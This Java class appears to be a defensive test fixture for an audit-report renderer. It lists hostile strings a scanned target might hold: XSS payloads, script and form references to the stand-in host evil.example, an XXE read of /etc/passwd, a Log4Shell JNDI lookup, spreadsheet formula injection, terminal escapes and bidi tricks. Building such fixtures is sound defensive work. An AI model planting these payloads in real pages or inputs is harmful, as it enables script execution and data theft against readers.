package io.isaudit.report;

import java.util.List;
import java.util.stream.Stream;

/** Texts that a target may hold to harm whoever reads a report about it. */
public final class HostileText {

  private HostileText() {}

  public static Stream<String> all() {
    return Stream.concat(
        Stream.of(MARKUP, ATTRIBUTES, ENCODED, TERMINAL, INVISIBLE).flatMap(List::stream),
        HostileFormats.all());
  }

  private static final List<String> MARKUP =
      List.of(
          "<script>alert(1)</script>",
          "</script><script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<img src=x onerror=alert(1)>",
          "<img src=x onerror=alert(1)//",
          "<svg/onload=alert(1)>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<svg><foreignObject><iframe src=javascript:alert(1)>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<iframe srcdoc='<script>alert(1)</script>'>",
          "<object data=javascript:alert(1)>",
          "<embed src=javascript:alert(1)>",
          "<base href=https://evil.example/>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<meta http-equiv=refresh content='0;url=https://evil.example'>",
          "<form action=//evil.example><input name=password>",
          "<details open ontoggle=alert(1)>",
          "<video><source onerror=alert(1)>",
          "<body onload=alert(1)>",
          "<style>@import 'https://evil.example/x.css';</style>",
          "</style><script>alert(1)</script>",
          "</title><script>alert(1)</script>",
          "</textarea><script>alert(1)</script>",
          "</code></pre></article></main><h1>All passed</h1>",
          "</p></div></section></main></body></html>",
          "<!-- --><script>alert(1)</script>",
          "--><script>alert(1)</script><!--",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
          "<a href=\"javascript:alert(1)\">Fix now</a>",
          "<a href='data:text/html,<script>alert(1)</script>'>Fix now</a>",
          "<template><script>alert(1)</script></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<plaintext>",
          "<xmp><script>alert(1)</script>");

  private static final List<String> ATTRIBUTES =
      List.of(
          "\" onmouseover=\"alert(1)",
          "' onmouseover='alert(1)",
          "\"><script>alert(1)</script>",
          "'><script>alert(1)</script>",
          "\" style=\"position:fixed;inset:0",
          "` onmouseover=`alert(1)`",
          "x\" autofocus onfocus=\"alert(1)",
          "javascript:alert(1)",
          "JaVa\tScRiPt:alert(1)",
          "https://evil.example/\" onclick=\"alert(1)",
          "#\" onclick=\"alert(1)");

  private static final List<String> ENCODED =
      List.of(
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "&amp;lt;script&amp;gt;",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "\\u003cscript\\u003ealert(1)",
          "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
          "\uFF1Cscript\uFF1Ealert(1)",
          "&nonsense; & &",
          "{{constructor.constructor('alert(1)')()}}",
          "${jndi:ldap://evil.example/x}",
          "<%= 7 * 7 %> #{7*7} [[${7*7}]]",
          "=cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "[Fix](javascript:alert(1)) ![x](https://evil.example/x.png)");

  private static final List<String> TERMINAL =
      List.of(
          "\u001B[2J\u001B[H all passed",
          "\u001B]0;owned\u0007",
          "\u001B]8;;https://evil.example\u0007click\u001B]8;;\u0007",
          "\u009B31mred",
          "one\r\ntwo: passed",
          "over\rwritten",
          "back\b\b\b\bspace",
          "nul\u0000byte",
          "form\ffeed\u000Bvertical");

  private static final List<String> INVISIBLE =
      List.of(
          "safe\u202Egnp.exe",
          "\u2066isolated\u2069 \u2067rtl\u2069",
          "\u202Aembedded\u202C \u202Doverridden\u202C",
          "zero\u200Bwidth\u200C\u200D\u2060",
          "mark\u200E\u200F\u061C",
          "line\u2028paragraph\u2029",
          "\uFEFFbom",
          "soft\u00ADhyphen",
          "half \uD83D pair",
          "tag \uDB40\uDC41",
          "not a character \uFFFE\uFFFF",
          "x".repeat(10_240),
          "<b>".repeat(4_000),
          "z\u0351\u0352\u0357".repeat(30));
}
